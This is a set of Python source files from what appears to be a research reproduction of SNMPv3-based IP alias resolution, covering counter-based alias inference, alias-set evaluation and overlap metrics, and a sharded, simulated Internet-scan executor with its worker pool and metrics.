    def union(self, a: IPAddress, b: IPAddress) -> None:
        ra, rb = self.find(a), self.find(b)
        if ra != rb:
            self._parent[rb] = ra

    def groups(self) -> list[frozenset[IPAddress]]:
        by_root: dict[IPAddress, set[IPAddress]] = {}
        for item in self._parent:
            by_root.setdefault(self.find(item), set()).add(item)
        return [frozenset(g) for g in by_root.values()]


@dataclass
class CounterAliasResolver:
    """Estimation → sieve → pairwise MBT → union-find."""

    oracle: CounterOracle
    technique: str
    start_time: float = 0.0
    estimation_probes: int = 5
    estimation_spacing: float = 10.0
    pair_probes: int = 4
    velocity_bucket_ratio: float = 2.0

    def resolve(self, candidates: list[IPAddress]) -> AliasSets:
        """Run the full pipeline over candidate addresses."""
        usable, velocities, last_values = self._estimate(candidates)
        buckets = self._sieve(usable, velocities)
        uf = _UnionFind(usable)
        clock = self.start_time + self.estimation_probes * self.estimation_spacing
        for bucket in buckets:
            # Order by counter value so true aliases (near-identical
            # values) become adjacent, then MBT-test adjacent pairs.
            bucket.sort(key=lambda a: last_values[a])
            for left, right in zip(bucket, bucket[1:]):
                if uf.find(left) == uf.find(right):
                    continue
                clock += 1.0
                if self._pair_test(left, right, clock):
                    uf.union(left, right)
        groups = uf.groups()
        # Candidates that failed estimation remain singletons.
        grouped = {a for g in groups for a in g}
        for address in candidates:
            if address not in grouped:
                groups.append(frozenset({address}))
        return AliasSets(sets=groups, technique=self.technique)

    # -- stages ---------------------------------------------------------------

    def _estimate(
        self, candidates: list[IPAddress]
    ) -> tuple[list[IPAddress], dict[IPAddress, float], dict[IPAddress, int]]:
        """Per-address time series: keep monotonic counters, estimate velocity."""
        usable: list[IPAddress] = []
        velocities: dict[IPAddress, float] = {}
        last_values: dict[IPAddress, int] = {}
        for index, address in enumerate(candidates):
            samples: list[tuple[float, int]] = []
            for probe in range(self.estimation_probes):
                now = self.start_time + probe * self.estimation_spacing + index * 1e-3
                value = self.oracle.probe(address, now)
                if value is None:
                    samples = []
                    break
                samples.append((now, value))
            if len(samples) < 2:
                continue
            if not monotonic_bounds_test(samples, self.oracle.modulus):
                continue
            span = samples[-1][0] - samples[0][0]
            total = sum(
                (b[1] - a[1]) % self.oracle.modulus for a, b in zip(samples, samples[1:])
            )
            velocity = total / span if span > 0 else 0.0
            if velocity <= 0.0:
                continue  # constant/zero IDs carry no signal
            usable.append(address)
            velocities[address] = velocity
            last_values[address] = samples[-1][1]
        return usable, velocities, last_values

    def _sieve(
        self, usable: list[IPAddress], velocities: dict[IPAddress, float]
    ) -> list[list[IPAddress]]:
        """Bucket addresses whose velocities could belong to one counter."""
        buckets: dict[int, list[IPAddress]] = {}
        log_ratio = math.log(self.velocity_bucket_ratio)
        for address in usable:
            key = int(math.log(max(velocities[address], 1e-9)) / log_ratio)
            buckets.setdefault(key, []).append(address)
            # Borderline velocities also join the neighbouring bucket via
            # a shadow entry, so near-boundary aliases are not missed.
            frac = math.log(max(velocities[address], 1e-9)) / log_ratio - key
            if frac < 0.15:
                buckets.setdefault(key - 1, []).append(address)
            elif frac > 0.85:
                buckets.setdefault(key + 1, []).append(address)
        return list(buckets.values())

    def _pair_test(self, left: IPAddress, right: IPAddress, start: float) -> bool:
        """Interleaved sampling of a candidate pair plus MBT."""
        samples: list[tuple[float, int]] = []
        now = start
        for round_index in range(self.pair_probes):
            for address in (left, right):
                value = self.oracle.probe(address, now)
                if value is None:
                    return False
                samples.append((now, value))
                now += 0.05
            now += 0.4
        return monotonic_bounds_test(samples, self.oracle.modulus, max_step_fraction=0.1)
