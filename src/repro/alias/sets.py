"""Alias-set containers and ground-truth evaluation.

An alias set is a group of IP addresses inferred to belong to one device.
:class:`AliasSets` wraps a collection of such groups with the statistics
the paper reports (singleton vs non-singleton counts, addresses per set,
protocol classification), and :func:`evaluate_against_truth` scores an
inference against the simulator's ground truth with pairwise precision
and recall — the quantities the operator survey of §6.2.2 approximates in
the real world.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Iterator

from repro.net.addresses import IPAddress


@dataclass
class AliasSets:
    """A collection of inferred alias sets."""

    sets: list[frozenset[IPAddress]]
    technique: str = ""

    def __post_init__(self) -> None:
        self._by_address: dict[IPAddress, int] = {}
        for index, group in enumerate(self.sets):
            for address in group:
                self._by_address[address] = index

    # -- classification ------------------------------------------------------

    @staticmethod
    def _kind(group: frozenset[IPAddress]) -> str:
        versions = {a.version for a in group}
        if versions == {4}:
            return "v4"
        if versions == {6}:
            return "v6"
        return "dual"

    def split_by_protocol(self) -> dict[str, list[frozenset[IPAddress]]]:
        """Partition into IPv4-only / IPv6-only / dual-stack sets."""
        result: dict[str, list[frozenset[IPAddress]]] = {"v4": [], "v6": [], "dual": []}
        for group in self.sets:
            result[self._kind(group)].append(group)
        return result

    # -- statistics ----------------------------------------------------------

    @property
    def count(self) -> int:
        return len(self.sets)

    def non_singletons(self) -> list[frozenset[IPAddress]]:
        return [g for g in self.sets if len(g) > 1]

    @property
    def non_singleton_count(self) -> int:
        return sum(1 for g in self.sets if len(g) > 1)

    @property
    def addresses_in_non_singletons(self) -> int:
        return sum(len(g) for g in self.sets if len(g) > 1)

    @property
    def mean_non_singleton_size(self) -> float:
        non = self.non_singletons()
        if not non:
            return 0.0
        return sum(len(g) for g in non) / len(non)

    def sizes(self) -> list[int]:
        return [len(g) for g in self.sets]

    def set_of(self, address: IPAddress) -> "frozenset[IPAddress] | None":
        index = self._by_address.get(address)
        if index is None:
            return None
        return self.sets[index]

    def addresses(self) -> Iterator[IPAddress]:
        return iter(self._by_address)

    @property
    def address_count(self) -> int:
        return len(self._by_address)

    def __iter__(self) -> Iterator[frozenset[IPAddress]]:
        return iter(self.sets)

    def __len__(self) -> int:
        return len(self.sets)


@dataclass(frozen=True)
class AliasEvaluation:
    """Pairwise precision/recall of an inference vs ground truth.

    A *pair* is an unordered pair of addresses placed in the same set.
    ``precision`` = inferred pairs that are true / inferred pairs;
    ``recall`` = true pairs recovered / true pairs among the evaluated
    addresses (addresses the technique actually emitted).
    """

    true_pairs: int
    inferred_pairs: int
    correct_pairs: int

    @property
    def precision(self) -> float:
        if self.inferred_pairs == 0:
            return 1.0
        return self.correct_pairs / self.inferred_pairs

    @property
    def recall(self) -> float:
        if self.true_pairs == 0:
            return 1.0
        return self.correct_pairs / self.true_pairs

    @property
    def f1(self) -> float:
        p, r = self.precision, self.recall
        if p + r == 0.0:
            return 0.0
        return 2 * p * r / (p + r)


def _pair_count(n: int) -> int:
    return n * (n - 1) // 2


def evaluate_against_truth(
    inferred: AliasSets,
    truth: "dict[int, frozenset[IPAddress]] | Iterable[frozenset[IPAddress]]",
) -> AliasEvaluation:
    """Score inferred alias sets against ground-truth device groupings.

    Recall is computed over the addresses the technique emitted (a scanner
    cannot recover aliases of silent interfaces), so it measures grouping
    quality, not coverage — coverage is reported separately (Figure 10).
    """
    truth_sets = list(truth.values()) if isinstance(truth, dict) else list(truth)
    device_of: dict[IPAddress, int] = {}
    for index, group in enumerate(truth_sets):
        for address in group:
            device_of[address] = index

    emitted = set(inferred.addresses())
    true_pairs = 0
    per_device: dict[int, int] = {}
    for address in emitted:
        device = device_of.get(address)
        if device is not None:
            per_device[device] = per_device.get(device, 0) + 1
    true_pairs = sum(_pair_count(n) for n in per_device.values())

    inferred_pairs = 0
    correct_pairs = 0
    for group in inferred:
        inferred_pairs += _pair_count(len(group))
        devices: dict[int, int] = {}
        for address in group:
            device = device_of.get(address)
            if device is not None:
                devices[device] = devices.get(device, 0) + 1
        correct_pairs += sum(_pair_count(n) for n in devices.values())

    return AliasEvaluation(
        true_pairs=true_pairs,
        inferred_pairs=inferred_pairs,
        correct_pairs=correct_pairs,
    )
