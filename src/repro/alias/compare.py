"""Overlap metrics between two alias-set collections (§5.2/§5.3).

The paper compares its SNMPv3 alias sets against Router Names, MIDAR and
Speedtrap using two notions:

* **exact matches** — sets with identical membership in both collections;
* **partial overlaps** — sets of one collection sharing at least one
  address with some set of the other.

Both are reported here, along with the address-level intersection and the
complementarity summary the paper draws (each technique sees addresses
the other cannot).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.alias.sets import AliasSets
from repro.net.addresses import IPAddress


@dataclass(frozen=True)
class OverlapReport:
    """Comparison of collection A (ours) against collection B (theirs)."""

    technique_a: str
    technique_b: str
    sets_a: int
    sets_b: int
    non_singleton_a: int
    non_singleton_b: int
    exact_matches: int
    partial_overlaps_a: int        # sets of A touching any set of B
    partial_overlaps_b: int        # sets of B touched by any set of A
    shared_addresses: int
    only_a_addresses: int
    only_b_addresses: int

    @property
    def complementary(self) -> bool:
        """Both techniques contribute exclusive addresses."""
        return self.only_a_addresses > 0 and self.only_b_addresses > 0


def compare_alias_sets(ours: AliasSets, theirs: AliasSets) -> OverlapReport:
    """Compute the §5.2/§5.3 overlap metrics."""
    ours_frozen = {frozenset(g) for g in ours.sets}
    theirs_frozen = {frozenset(g) for g in theirs.sets}
    exact = len(ours_frozen & theirs_frozen)

    theirs_by_address: dict[IPAddress, int] = {}
    for index, group in enumerate(theirs.sets):
        for address in group:
            theirs_by_address[address] = index

    partial_a = 0
    touched_b: set[int] = set()
    for group in ours.sets:
        hit = {theirs_by_address[a] for a in group if a in theirs_by_address}
        if hit:
            partial_a += 1
            touched_b.update(hit)

    addresses_a = set(ours.addresses())
    addresses_b = set(theirs.addresses())

    return OverlapReport(
        technique_a=ours.technique,
        technique_b=theirs.technique,
        sets_a=ours.count,
        sets_b=theirs.count,
        non_singleton_a=ours.non_singleton_count,
        non_singleton_b=theirs.non_singleton_count,
        exact_matches=exact,
        partial_overlaps_a=partial_a,
        partial_overlaps_b=len(touched_b),
        shared_addresses=len(addresses_a & addresses_b),
        only_a_addresses=len(addresses_a - addresses_b),
        only_b_addresses=len(addresses_b - addresses_a),
    )
