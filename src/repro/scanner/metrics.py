"""Execution metrics for the sharded scan engine.

One :class:`ShardMetrics` per shard, aggregated into an
:class:`ExecutorMetrics` per scan.  The CLI's ``--stats`` flag prints
these, and ``benchmarks/test_bench_executor.py`` records them in
``BENCH_executor.json`` — they are the observability surface the
ROADMAP's "as fast as the hardware allows" goal is measured against.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass
class ShardMetrics:
    """What one shard did: probe/reply counts and wall-clock time.

    The retry/fault counters (``retries`` through ``corrupted``) stay
    zero for the default :class:`~repro.scanner.executor.RetryPolicy`
    with no fault profile attached — the legacy single-probe path.
    """

    shard_index: int
    targets: int = 0
    probes_sent: int = 0
    replies: int = 0
    observations: int = 0
    dropped_loss: int = 0
    dropped_reply_loss: int = 0
    dropped_no_endpoint: int = 0
    dropped_rate_limited: int = 0
    retries: int = 0
    timed_out: int = 0
    unparsed: int = 0
    breaker_tripped: int = 0
    duplicated: int = 0
    reordered: int = 0
    truncated: int = 0
    corrupted: int = 0
    probe_bytes: int = 0
    reply_bytes: int = 0
    wall_time: float = 0.0
    #: Encoded batch bytes this shard pushed over the worker→parent pipe
    #: (zero on the serial path — nothing crosses a process boundary).
    ipc_bytes: int = 0
    #: Per-stage wall-clock seconds, populated only when the executor
    #: runs with ``profile=True`` (the timers cost real time per probe).
    encode_time: float = 0.0
    fabric_time: float = 0.0
    agent_time: float = 0.0
    decode_time: float = 0.0

    def to_dict(self) -> dict:
        return {
            "shard": self.shard_index,
            "targets": self.targets,
            "probes_sent": self.probes_sent,
            "replies": self.replies,
            "observations": self.observations,
            "dropped_loss": self.dropped_loss,
            "dropped_reply_loss": self.dropped_reply_loss,
            "dropped_no_endpoint": self.dropped_no_endpoint,
            "dropped_rate_limited": self.dropped_rate_limited,
            "retries": self.retries,
            "timed_out": self.timed_out,
            "unparsed": self.unparsed,
            "breaker_tripped": self.breaker_tripped,
            "duplicated": self.duplicated,
            "reordered": self.reordered,
            "truncated": self.truncated,
            "corrupted": self.corrupted,
            "probe_bytes": self.probe_bytes,
            "reply_bytes": self.reply_bytes,
            "wall_time": self.wall_time,
            "ipc_bytes": self.ipc_bytes,
            "encode_time": self.encode_time,
            "fabric_time": self.fabric_time,
            "agent_time": self.agent_time,
            "decode_time": self.decode_time,
        }


@dataclass
class ExecutorMetrics:
    """Aggregated execution metrics for one sharded scan."""

    label: str
    workers: int
    num_shards: int
    batch_size: int
    shards: list[ShardMetrics] = field(default_factory=list)
    peak_batch: int = 0
    wall_time: float = 0.0
    #: Non-probe campaign edges, measured per scan (always on — they run
    #: once per window, not once per probe, so the timers are free):
    #: shard planning, topology derivation (lazy worlds only) and result
    #: ingestion (ScanResult assembly plus attached batch sinks).
    plan_time: float = 0.0
    derive_time: float = 0.0
    ingest_time: float = 0.0

    def add_shard(self, shard: ShardMetrics) -> None:
        self.shards.append(shard)

    # -- aggregates --------------------------------------------------------

    @property
    def targets(self) -> int:
        return sum(s.targets for s in self.shards)

    @property
    def probes_sent(self) -> int:
        return sum(s.probes_sent for s in self.shards)

    @property
    def replies(self) -> int:
        return sum(s.replies for s in self.shards)

    @property
    def observations(self) -> int:
        return sum(s.observations for s in self.shards)

    @property
    def losses(self) -> int:
        """Packets lost on either path (forward probe or reply)."""
        return sum(s.dropped_loss + s.dropped_reply_loss for s in self.shards)

    @property
    def retries(self) -> int:
        return sum(s.retries for s in self.shards)

    @property
    def timed_out(self) -> int:
        return sum(s.timed_out for s in self.shards)

    @property
    def unparsed(self) -> int:
        return sum(s.unparsed for s in self.shards)

    @property
    def breaker_tripped(self) -> int:
        return sum(s.breaker_tripped for s in self.shards)

    @property
    def rate_limited(self) -> int:
        return sum(s.dropped_rate_limited for s in self.shards)

    @property
    def faults_injected(self) -> int:
        """Total wire faults the fabric injected into this scan."""
        return sum(
            s.duplicated + s.reordered + s.truncated + s.corrupted
            for s in self.shards
        )

    @property
    def ipc_bytes(self) -> int:
        """Total encoded batch bytes that crossed the worker→parent pipe."""
        return sum(s.ipc_bytes for s in self.shards)

    @property
    def encode_time(self) -> float:
        """Seconds spent encoding probes, summed over shards (profile mode)."""
        return sum(s.encode_time for s in self.shards)

    @property
    def fabric_time(self) -> float:
        """Seconds spent in fabric transit (delivery minus agent handling)."""
        return sum(s.fabric_time for s in self.shards)

    @property
    def agent_time(self) -> float:
        """Seconds spent inside agent handlers, summed over shards."""
        return sum(s.agent_time for s in self.shards)

    @property
    def decode_time(self) -> float:
        """Seconds spent parsing replies into observations."""
        return sum(s.decode_time for s in self.shards)

    @property
    def profiled(self) -> bool:
        """Whether any shard carries stage timings (``profile=True`` runs)."""
        return any(
            s.encode_time or s.fabric_time or s.agent_time or s.decode_time
            for s in self.shards
        )

    @property
    def probes_per_second(self) -> float:
        """Real (not virtual) throughput of the whole scan."""
        if self.wall_time <= 0:
            return 0.0
        return self.probes_sent / self.wall_time

    def to_dict(self) -> dict:
        return {
            "label": self.label,
            "workers": self.workers,
            "num_shards": self.num_shards,
            "batch_size": self.batch_size,
            "peak_batch": self.peak_batch,
            "wall_time": self.wall_time,
            "targets": self.targets,
            "probes_sent": self.probes_sent,
            "replies": self.replies,
            "observations": self.observations,
            "dropped_loss": self.losses,
            "dropped_rate_limited": self.rate_limited,
            "retries": self.retries,
            "timed_out": self.timed_out,
            "unparsed": self.unparsed,
            "breaker_tripped": self.breaker_tripped,
            "faults_injected": self.faults_injected,
            "probes_per_second": round(self.probes_per_second, 1),
            "ipc_bytes": self.ipc_bytes,
            "encode_time": round(self.encode_time, 4),
            "fabric_time": round(self.fabric_time, 4),
            "agent_time": round(self.agent_time, 4),
            "decode_time": round(self.decode_time, 4),
            "plan_time": round(self.plan_time, 4),
            "derive_time": round(self.derive_time, 4),
            "ingest_time": round(self.ingest_time, 4),
            "shards": [s.to_dict() for s in self.shards],
        }

    def summary(self) -> str:
        """One-line human summary for the CLI's ``--stats`` output."""
        line = (
            f"{self.label}: {self.probes_sent} probes over "
            f"{self.num_shards} shards x {self.workers} worker(s) in "
            f"{self.wall_time:.2f}s ({self.probes_per_second:,.0f} pps), "
            f"{self.observations} responsive, {self.losses} lost, "
            f"peak batch {self.peak_batch}"
        )
        extras = []
        if self.retries:
            extras.append(f"{self.retries} retries")
        if self.timed_out:
            extras.append(f"{self.timed_out} late replies")
        if self.unparsed:
            extras.append(f"{self.unparsed} unparsed")
        if self.breaker_tripped:
            extras.append(f"{self.breaker_tripped} breakers tripped")
        if self.rate_limited:
            extras.append(f"{self.rate_limited} rate-limited")
        if self.faults_injected:
            extras.append(f"{self.faults_injected} faults injected")
        if self.ipc_bytes:
            extras.append(f"{self.ipc_bytes / 1024:.1f} KiB over IPC")
        if extras:
            line += ", " + ", ".join(extras)
        if self.profiled:
            line += (
                f"\n  stages: encode {self.encode_time:.2f}s, "
                f"fabric {self.fabric_time:.2f}s, "
                f"agent {self.agent_time:.2f}s, "
                f"decode {self.decode_time:.2f}s"
            )
            line += (
                f"\n  edges: plan {self.plan_time:.2f}s, "
                f"derive {self.derive_time:.2f}s, "
                f"ingest {self.ingest_time:.2f}s"
            )
        return line


__all__ = ["ExecutorMetrics", "ShardMetrics"]
