"""Execution metrics for the sharded scan engine.

One :class:`ShardMetrics` per shard, aggregated into an
:class:`ExecutorMetrics` per scan.  The CLI's ``--stats`` flag prints
these, and ``benchmarks/test_bench_executor.py`` records them in
``BENCH_executor.json`` — they are the observability surface the
ROADMAP's "as fast as the hardware allows" goal is measured against.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass
class ShardMetrics:
    """What one shard did: probe/reply counts and wall-clock time."""

    shard_index: int
    targets: int = 0
    probes_sent: int = 0
    replies: int = 0
    observations: int = 0
    dropped_loss: int = 0
    dropped_no_endpoint: int = 0
    probe_bytes: int = 0
    reply_bytes: int = 0
    wall_time: float = 0.0

    def to_dict(self) -> dict:
        return {
            "shard": self.shard_index,
            "targets": self.targets,
            "probes_sent": self.probes_sent,
            "replies": self.replies,
            "observations": self.observations,
            "dropped_loss": self.dropped_loss,
            "dropped_no_endpoint": self.dropped_no_endpoint,
            "probe_bytes": self.probe_bytes,
            "reply_bytes": self.reply_bytes,
            "wall_time": self.wall_time,
        }


@dataclass
class ExecutorMetrics:
    """Aggregated execution metrics for one sharded scan."""

    label: str
    workers: int
    num_shards: int
    batch_size: int
    shards: list[ShardMetrics] = field(default_factory=list)
    peak_batch: int = 0
    wall_time: float = 0.0

    def add_shard(self, shard: ShardMetrics) -> None:
        self.shards.append(shard)

    # -- aggregates --------------------------------------------------------

    @property
    def targets(self) -> int:
        return sum(s.targets for s in self.shards)

    @property
    def probes_sent(self) -> int:
        return sum(s.probes_sent for s in self.shards)

    @property
    def replies(self) -> int:
        return sum(s.replies for s in self.shards)

    @property
    def observations(self) -> int:
        return sum(s.observations for s in self.shards)

    @property
    def losses(self) -> int:
        return sum(s.dropped_loss for s in self.shards)

    @property
    def probes_per_second(self) -> float:
        """Real (not virtual) throughput of the whole scan."""
        if self.wall_time <= 0:
            return 0.0
        return self.probes_sent / self.wall_time

    def to_dict(self) -> dict:
        return {
            "label": self.label,
            "workers": self.workers,
            "num_shards": self.num_shards,
            "batch_size": self.batch_size,
            "peak_batch": self.peak_batch,
            "wall_time": self.wall_time,
            "targets": self.targets,
            "probes_sent": self.probes_sent,
            "replies": self.replies,
            "observations": self.observations,
            "dropped_loss": self.losses,
            "probes_per_second": round(self.probes_per_second, 1),
            "shards": [s.to_dict() for s in self.shards],
        }

    def summary(self) -> str:
        """One-line human summary for the CLI's ``--stats`` output."""
        return (
            f"{self.label}: {self.probes_sent} probes over "
            f"{self.num_shards} shards x {self.workers} worker(s) in "
            f"{self.wall_time:.2f}s ({self.probes_per_second:,.0f} pps), "
            f"{self.observations} responsive, {self.losses} lost, "
            f"peak batch {self.peak_batch}"
        )


__all__ = ["ExecutorMetrics", "ShardMetrics"]
