"""Internet-wide SNMPv3 scanning over the simulated fabric.

Mirrors the paper's §3.2 measurement setup:

* :mod:`repro.scanner.records` — the observation records a scan produces;
* :mod:`repro.scanner.zmap` — the legacy ZMap-equivalent engine: permuted
  targets, rate-limited single-probe-per-IP UDP scanning, full response
  capture with receive timestamps;
* :mod:`repro.scanner.executor` — the sharded, streaming engine: the same
  probe semantics partitioned into deterministic shards that run on a
  worker pool and yield bounded observation batches;
* :mod:`repro.scanner.metrics` — per-shard/per-scan execution metrics;
* :mod:`repro.scanner.campaign` — orchestration of the paper's four
  campaigns (two IPv4 scans, two IPv6 scans) including the interim events
  between paired scans (device reboots, CPE address churn).
"""

from repro.scanner.records import ScanObservation, ScanResult
from repro.scanner.zmap import ZmapConfig, ZmapScanner
from repro.scanner.executor import (
    ExecutionOptions,
    ExecutorConfig,
    RetryPolicy,
    ScanExecution,
    ShardedScanExecutor,
)
from repro.scanner.metrics import ExecutorMetrics, ShardMetrics
from repro.scanner.campaign import CampaignResult, ScanCampaign, ScanStream

__all__ = [
    "CampaignResult",
    "ExecutionOptions",
    "ExecutorConfig",
    "ExecutorMetrics",
    "RetryPolicy",
    "ScanCampaign",
    "ScanExecution",
    "ScanObservation",
    "ScanResult",
    "ScanStream",
    "ShardMetrics",
    "ShardedScanExecutor",
    "ZmapConfig",
    "ZmapScanner",
]
