"""Internet-wide SNMPv3 scanning over the simulated fabric.

Mirrors the paper's §3.2 measurement setup:

* :mod:`repro.scanner.records` — the observation records a scan produces;
* :mod:`repro.scanner.zmap` — the ZMap-equivalent engine: permuted
  targets, rate-limited single-probe-per-IP UDP scanning, full response
  capture with receive timestamps;
* :mod:`repro.scanner.campaign` — orchestration of the paper's four
  campaigns (two IPv4 scans, two IPv6 scans) including the interim events
  between paired scans (device reboots, CPE address churn).
"""

from repro.scanner.records import ScanObservation, ScanResult
from repro.scanner.zmap import ZmapConfig, ZmapScanner
from repro.scanner.campaign import CampaignResult, ScanCampaign

__all__ = [
    "CampaignResult",
    "ScanCampaign",
    "ScanObservation",
    "ScanResult",
    "ZmapConfig",
    "ZmapScanner",
]
