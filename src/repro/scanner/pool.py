"""Persistent fork-based worker pool for the sharded scan executor.

The old parallel path forked a fresh ``multiprocessing.Pool`` for every
scan and shipped each shard's result back as one giant pickled list —
all observations materialized worker-side before the first byte crossed
the pipe.  This module replaces both halves:

* **One fork per campaign.**  A :class:`WorkerPool` is created once (by
  the campaign, or per scan for standalone executors) and runs shard
  tasks for any number of scans.  Workers inherit the runner object at
  fork time via module globals — the ``fork`` start method makes the
  parent's address space visible copy-on-write, so nothing large is ever
  pickled through the task pipe; a task is a ``(scan key, shard index,
  batch size)`` triple.
* **Streaming compact batches.**  Workers chunk each shard's
  observations into bounded batches, pack every batch with
  :mod:`repro.scanner.wire`, and push the blobs onto a shared queue
  while the shard is still running downstream shards.  The parent yields
  messages strictly in shard-index order (buffering out-of-order
  shards), which keeps the merge — and therefore the observation stream
  — byte-identical to the serial path.

Per-shard message sequence: zero or more :data:`MSG_BATCH` blobs
followed by exactly one :data:`MSG_METRICS` carrying the shard's
:class:`~repro.scanner.metrics.ShardMetrics` (its ``ipc_bytes`` field
counts the encoded batch bytes that crossed the pipe).  Worker
exceptions travel as :data:`MSG_ERROR` messages and re-raise in the
parent as :class:`WorkerPoolError`.

The pool is agnostic to *how* a shard probes: the runner executes the
staged batch pipeline (or the legacy per-probe loop — whatever the
scan's :class:`~repro.scanner.executor.ExecutionOptions` selected), and
because both produce identical observations in identical batch
boundaries, the message stream — and the ``ipc_bytes`` accounting — is
byte-identical either way.
"""

from __future__ import annotations

import multiprocessing
from typing import TYPE_CHECKING, Iterator, Protocol

from repro.scanner.metrics import ShardMetrics
from repro.scanner.wire import encode_observations

if TYPE_CHECKING:
    from repro.scanner.records import ScanObservation

#: Message kinds on the worker→parent queue.
MSG_BATCH = 0
MSG_METRICS = 1
MSG_ERROR = 2

#: One queue message: (scan sequence, shard index, kind, payload).
PoolMessage = tuple[int, int, int, object]


class ShardRunner(Protocol):
    """Worker-side strategy: maps a task to one executed shard."""

    def run_shard(
        self, scan_key: str, shard_index: int, batch_size: int
    ) -> "tuple[Iterator[list[ScanObservation]], ShardMetrics]":
        """Execute one shard of the named scan as a lazy batch stream.

        The metrics object is filled in while the iterator is consumed
        and must be complete once it is exhausted.
        """
        ...


class WorkerPoolError(RuntimeError):
    """A shard task failed inside a worker process."""


# Fork-inheritance plumbing: published immediately before the pool forks,
# cleared immediately after.  Children capture the values at fork time;
# later parent-side reassignment is invisible to them, which is exactly
# the point — the runner must replay per-scan state itself.
_WORKER_RUNNER: "ShardRunner | None" = None
_WORKER_QUEUE: "multiprocessing.queues.SimpleQueue[PoolMessage] | None" = None


def _worker_run_shard(task: "tuple[int, str, int, int]") -> None:
    """Pool task body: run one shard, stream its batches, then metrics."""
    scan_seq, scan_key, shard_index, batch_size = task
    runner, queue = _WORKER_RUNNER, _WORKER_QUEUE
    assert runner is not None and queue is not None
    try:
        batches, metrics = runner.run_shard(scan_key, shard_index, batch_size)
        for batch in batches:
            blob = encode_observations(batch)
            metrics.ipc_bytes += len(blob)
            queue.put((scan_seq, shard_index, MSG_BATCH, blob))
        queue.put((scan_seq, shard_index, MSG_METRICS, metrics))
    except BaseException as exc:  # surfaced parent-side as WorkerPoolError
        queue.put(
            (scan_seq, shard_index, MSG_ERROR, f"{type(exc).__name__}: {exc}")
        )


class WorkerPool:
    """A pool of forked workers that outlives individual scans.

    Construction forks the workers immediately — callers must publish a
    *pristine* runner: per-scan state is reconstructed worker-side by the
    runner (deterministic schedule replay), never re-pushed from the
    parent, because post-fork parent mutations are invisible to children.
    """

    def __init__(self, *, workers: int, runner: ShardRunner) -> None:
        global _WORKER_RUNNER, _WORKER_QUEUE
        if workers < 2:
            raise ValueError(f"WorkerPool needs >= 2 workers, got {workers}")
        context = multiprocessing.get_context("fork")
        self.workers = workers
        self._queue: "multiprocessing.queues.SimpleQueue[PoolMessage]" = (
            context.SimpleQueue()
        )
        self._scan_seq = 0
        self._closed = False
        _WORKER_RUNNER = runner
        _WORKER_QUEUE = self._queue
        try:
            self._pool = context.Pool(processes=workers)
        except BaseException:
            # Forking can fail (resource limits); without an object to
            # close, the queue's pipe descriptors would leak.
            self._queue.close()
            raise
        finally:
            _WORKER_RUNNER = None
            _WORKER_QUEUE = None

    def run_scan(
        self, scan_key: str, *, num_shards: int, batch_size: int
    ) -> "Iterator[tuple[int, int, object]]":
        """Run every shard of one scan; yield messages in shard order.

        Yields ``(shard_index, kind, payload)`` with each shard's batches
        (wire blobs) immediately followed by its metrics, shard 0 first —
        the same deterministic merge order as the serial path.  Batches
        of the head shard are yielded as soon as they arrive, so the
        parent decodes while workers keep probing.
        """
        if self._closed:
            raise RuntimeError("WorkerPool is closed")
        self._scan_seq += 1
        seq = self._scan_seq
        tasks = [(seq, scan_key, index, batch_size) for index in range(num_shards)]
        result = self._pool.map_async(_worker_run_shard, tasks, chunksize=1)
        # Out-of-order shards park their (kind, payload) messages here
        # until every lower-indexed shard has drained.
        buffered: "dict[int, list[tuple[int, object]]]" = {}
        finished: "set[int]" = set()
        head = 0
        while head < num_shards:
            msg_seq, shard_index, kind, payload = self._queue.get()
            if msg_seq != seq:
                continue  # abandoned predecessor scan draining out
            if kind == MSG_ERROR:
                self.close()
                raise WorkerPoolError(
                    f"shard {shard_index} of scan {scan_key!r} failed: {payload}"
                )
            if shard_index != head:
                buffered.setdefault(shard_index, []).append((kind, payload))
                if kind == MSG_METRICS:
                    finished.add(shard_index)
                continue
            yield shard_index, kind, payload
            if kind != MSG_METRICS:
                continue
            head += 1
            while head < num_shards:
                for pending_kind, pending in buffered.pop(head, []):
                    yield head, pending_kind, pending
                if head not in finished:
                    break
                head += 1
        result.get()

    @property
    def closed(self) -> bool:
        """Whether the pool has shut down (explicitly or after an error)."""
        return self._closed

    def close(self) -> None:
        """Shut the workers down; the pool cannot be reused afterwards."""
        if not self._closed:
            self._closed = True
            try:
                self._pool.terminate()
                self._pool.join()
            finally:
                # The IPC queue holds two pipe descriptors of its own;
                # terminating the workers does not release the parent
                # ends.
                self._queue.close()

    def __enter__(self) -> "WorkerPool":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()


__all__ = [
    "MSG_BATCH",
    "MSG_ERROR",
    "MSG_METRICS",
    "ShardRunner",
    "WorkerPool",
    "WorkerPoolError",
]
