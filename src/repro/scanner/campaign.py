"""Scan-campaign orchestration.

Reproduces the paper's measurement schedule (Table 1): two IPv6 scans on
consecutive days, then two IPv4 scans roughly a week apart.  Between the
paired scans the simulated Internet keeps living:

* devices flagged ``reboot_between_scans`` restart at a random moment in
  the campaign window (feeding the "inconsistent engine boots" filter);
* DHCP-pool CPE re-address — either swapping addresses with another
  churned device in the same AS (the same IP then answers with a
  *different* engine ID: the "inconsistent engine ID" filter) or moving
  to a fresh address (shrinking the scan-overlap set).

IPv4 scans target every address in the simulated address plan (equivalent
to probing the full routable space — unassigned addresses never answer);
IPv6 scans target the IPv6 Hitlist view only, as the paper does.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.net.addresses import IPAddress
from repro.net.transport import LinkProfile, NetworkFabric
from repro.scanner.records import ScanResult
from repro.scanner.zmap import ZmapConfig, ZmapScanner
from repro.snmp.constants import SNMP_PORT
from repro.topology import timeline
from repro.topology.config import TopologyConfig
from repro.topology.datasets import RouterDatasets, build_router_datasets
from repro.topology.model import Device, Topology

#: Scan labels in chronological order.
SCAN_LABELS = ("v6-1", "v6-2", "v4-1", "v4-2")

_SCHEDULE = {
    "v6-1": (6, timeline.SCAN1_V6_START, 20000.0),
    "v6-2": (6, timeline.SCAN2_V6_START, 20000.0),
    "v4-1": (4, timeline.SCAN1_V4_START, 5000.0),
    "v4-2": (4, timeline.SCAN2_V4_START, 5000.0),
}

#: Probability that a DHCP-pool device re-addresses within the inter-scan
#: gap, per address family (6 days for IPv4, 1 day for IPv6).
_CHURN_PROB = {4: 0.6, 6: 0.15}


@dataclass
class CampaignResult:
